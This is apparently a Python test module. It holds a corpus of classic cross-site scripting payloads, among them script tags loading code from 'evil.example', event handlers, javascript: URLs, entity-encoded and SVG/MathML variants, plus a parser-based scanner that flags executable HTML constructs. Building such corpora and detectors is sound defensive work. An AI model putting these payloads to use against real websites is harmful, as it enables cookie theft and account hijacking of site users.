"""A fixed corpus of classic cross-site scripting payloads, and what "executable" means.

``executable_constructs(markup)`` parses HTML the way a browser's tokenizer would (the
standard library's parser, entities decoded in attribute values) and lists anything that
would run script or load active content: script-capable elements, event-handler
attributes, and URL attributes whose scheme (after entity decoding and stripping the
whitespace and control characters browsers ignore) is ``javascript:``, ``vbscript:`` or
``data:``.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

CORPUS: tuple[str, ...] = (
    # <script> in its usual disguises
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    '"><script>alert(document.cookie)</script>',
    "</textarea><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<img/src/onerror=alert(1)>",
    # javascript: and other active URLs
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" &#14;javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    '<math href="javascript:alert(1)">click</math>',
    # entity-encoded
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    # broken and nested tags
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    "<div><p>unclosed <b>bold <script>alert(1)",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
)

# Inert as sent; they target filters that strip or decode once and then render the rest.
INERT_AS_SENT = frozenset(
    {
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<img src=x onerror=alert(1)//",
    }
)

ACTIVE_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "svg", "math", "base", "link", "meta", "form", "input", "button", "textarea",
        "select", "template", "noscript", "xml", "portal",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
        "srcdoc", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "usemap", "content",
    }
)  # fmt: skip
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")
_ACTIVE_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            elif name == "style" and value and re.search(r"url\(|expression\(", value, re.I):
                self.found.append(f"<{tag} style=...>")
            elif name in URL_ATTRIBUTES and value is not None:
                url = _IGNORED_IN_URLS.sub("", value).lower()
                if url.startswith(_ACTIVE_SCHEMES) or ";url=javascript:" in url:
                    self.found.append(f"<{tag} {name}={url[:20]}...>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def executable_constructs(markup: str) -> list[str]:
    scanner = _Scanner()
    scanner.feed(markup)
    scanner.close()
    return scanner.found
